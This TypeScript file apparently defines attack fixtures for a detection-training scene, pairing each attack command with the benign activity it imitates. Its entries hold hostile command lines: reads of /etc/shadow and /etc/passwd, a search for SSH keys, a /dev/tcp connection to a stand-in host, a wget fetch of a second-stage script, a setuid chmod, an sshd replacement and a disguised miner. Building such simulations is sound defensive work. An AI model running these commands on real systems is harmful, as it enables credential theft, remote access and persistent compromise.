import type {Attack} from './scene.ts';

/** Each looks like a noise group: the same rule, mostly the same program's name, and in some cases the very same program. */
export const HOST_ATTACKS: readonly Attack[] = [
	{
		id: 'python reads the password file',
		resembles: 'inventory',
		by: 'bash',
		line: () => `/usr/bin/python3 -c "print(len(open('/etc/shadow').read()))"`,
	},
	{
		id: 'a false backup agent',
		resembles: 'backup',
		by: 'bash',
		line: () => '/var/tmp/.cache/backup-agent -c 900 /etc/shadow',
	},
	{id: 'a web shell', resembles: 'nginx-probe', by: 'nginx', line: () => `sh -c "id; uname -a; cat /etc/passwd"`},
	{id: 'code is injected', resembles: 'profiler', by: 'bash', line: () => '/var/tmp/.cache/profiler attach'},
	{id: 'keys are looked for', resembles: 'key-audit', by: 'bash', line: () => 'find /root /home -maxdepth 3 -name id_rsa'},
	{
		id: 'a cron job of the taken agent',
		resembles: 'certbot',
		by: 'cron',
		line: () => '/opt/certs/certbot-agent x ../cron.d/0-sysupdate',
	},
	{id: 'a link into the system', resembles: 'snapshot', by: 'bash', line: (r) => `ln -s /etc /var/tmp/.cache/e${r.hex(4)}`},
	{id: 'a shell calls home', resembles: 'tcp-check', by: 'bash', line: () => `bash -c "exec 3<>/dev/tcp/203.0.113.66/4444"`},
	{id: 'a root shell is prepared', resembles: 'package-build', by: 'bash', spare: true, line: () => 'chmod 4755 /var/tmp/.cache/helper'},
	{
		id: 'a system program is replaced',
		resembles: 'updater',
		by: 'cron',
		spare: true,
		line: () => '/opt/upd/updater /opt/upd/tool /usr/bin/sshd',
	},
];

export const CONTAINER_ATTACKS: readonly Attack[] = [
	{id: 'a second stage is fetched', resembles: 'web-fetch', by: 'web', line: () => '/bin/wget -q -T 1 -O /tmp/x http://203.0.113.66/x.sh'},
	{
		id: 'a miner is dropped',
		resembles: 'batch-plugins',
		by: 'batch',
		line: () => 'cp /bin/busybox /tmp/kworker; /tmp/kworker true',
	},
];
